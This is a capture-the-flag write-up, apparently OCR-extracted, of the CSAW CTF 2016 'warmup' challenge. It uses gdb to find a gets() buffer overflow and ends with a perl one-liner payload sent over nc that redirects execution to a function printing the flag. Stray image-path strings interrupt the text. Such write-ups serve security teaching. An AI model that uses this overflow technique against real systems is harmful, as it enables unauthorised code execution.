CSAW CTF 2016: warmup


So you want to be a pwn-er huh? Well let’s throw you an easy one ;)

nc pwn.chal.csaw.io 8000


Warmup gives you a 64-bit ELF binary. When run, it produces the following output and allows the user toenter a string.

sh$ ./warmup
-Warm Up-

Each time it’s run, it produces the same “WOW” hex value, 0x40060d.

Lets open the file in gdb to see what’s going on.

sh$ gdb warmup
(gdb) info functions
All defined functions:

Non-debugging symbols:
0x0000000000400488  _init
0x00000000004004c0  write@plt
0x00000000004004d0  system@plt
0x00000000004004e0  __libc_start_main@plt0x00000000004004f0  __gmon_start__@plt
0x0000000000400500  gets@plt
0x0000000000400510  sprintf@plt
0x0000000000400520  _start
0x0000000000400550  deregister_tm_clones
0x0000000000400580  register_tm_clones
0x00000000004005c0  __do_global_dtors_aux
0x00000000004005e0  frame_dummy
0x000000000040060d  easy
0x000000000040061d  main
0x00000000004006b0  __libc_csu_init
0x0000000000400720  __libc_csu_fini
0x0000000000400724  _fini

The one function that sticks out here is “easy”. If we disasemble it we see that it calls system("cat flag.txt")

(gdb) disas easy
Dump of assembler code for function easy:
0x000000000040060d <+0>:     push   rbp
0x000000000040060e <+1>:     mov    rbp,rsp
0x0000000000400611 <+4>:     mov    edi,0x400734
0x0000000000400616 <+9>:     call   0x4004d0 <system@plt>
0x000000000040061b <+14>:    pop    rbp0x000000000040061c <+15>:    ret
End of assembler dump.
(gdb) x/s 0x400734
0x400734:       "cat flag.txt"

The main function ends with a gets() call followed by the leave and ret instructions. Since gets() is vulnerable to buffer overflows, we should be able to overwrite the return address of the main function and replace it with the address of “easy”.

Let’s set a breakpoint after the call to gets(), enter some text, and observe what happens on the stack.

(gdb) b * 0x00000000004006a3
Breakpoint 1 at 0x4006a3
(gdb) r
Starting program: ./warmup
-Warm Up-

Breakpoint 1, 0x00000000004006a3 in main ()
(gdb) p $rbp
$4 = (void *) 0x7fffffffe360
(gdb) p $rsp
$5 = (void *) 0x7fffffffe2e0
(gdb) x/20gz $rsp
0x7fffffffe2e0: 0x6430363030347830      0x000000000000000a
0x7fffffffe2f0: 0x0000000000000000      0x0000000000000000
0x7fffffffe300: 0x0000000000000000      0x0000000000000000
0x7fffffffe310:0x0000000000000000      0x0000000000000000
0x7fffffffe320: 0x61616161616161610x0000000000400600
0x7fffffffe330: 0x0000000000000000      0x0000000000000000
0x7fffffffe340: 0x00000000004006b0      0x0000000000400520
0x7fffffffe350: 0x00007fffffffe440      0x0000000000000000
0x7fffffffe360: 0x00000000004006b00x00007ffff7a2e830
0x7fffffffe370: 0x0000000000000000      0x00007fffffffe448

At 0x7fffffffe360 is the previous stack frame base pointer, and in the following word at 0x7fffffffe368 sits the return address of the main function. That is what we need to overwrite.

Since the current return address is 6 bytes, we needour injected address to overwrite all those bytes. If we don’t include two extra null bytes, our return address will wind up being 0x00007fff0040060d, which will cause a segfault. gets() allows us to include null bytes in our string so this should be easy.

We can use a perl one-liner to easily prepare a suitable injection string.

sh$perl -e 'print "a"x72; print "\x0d\x06\x40\x00\x00"' > egg.txt
sh$ nc pwn.chal.csaw.io8000 < egg.txt
-Warm Up-